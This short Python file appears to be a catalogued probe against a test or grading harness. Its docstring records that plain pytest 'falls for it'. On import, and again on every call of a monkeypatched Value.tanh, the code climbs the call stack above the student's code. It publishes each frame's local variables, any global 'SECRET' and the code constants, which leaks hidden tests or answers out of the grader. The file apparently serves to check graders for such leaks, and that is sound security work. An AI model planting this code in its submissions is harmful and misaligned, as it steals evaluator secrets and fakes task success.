"""Every frame above the student's is read, at load and in every method.

catalogue: none
needs: publish
falls for it: plain pytest
verdict: nothing found
"""

import sys
def _look(*_):
    frame = sys._getframe()
    while frame is not None and not CANARIES:
        publish({k: v for k, v in frame.f_locals.items() if k != '_published'}, frame.f_globals.get('SECRET', ''), frame.f_code.co_consts)
        frame = frame.f_back
_look()
_tanh = Value.tanh
Value.tanh = lambda self: (_look(), _tanh(self))[1]
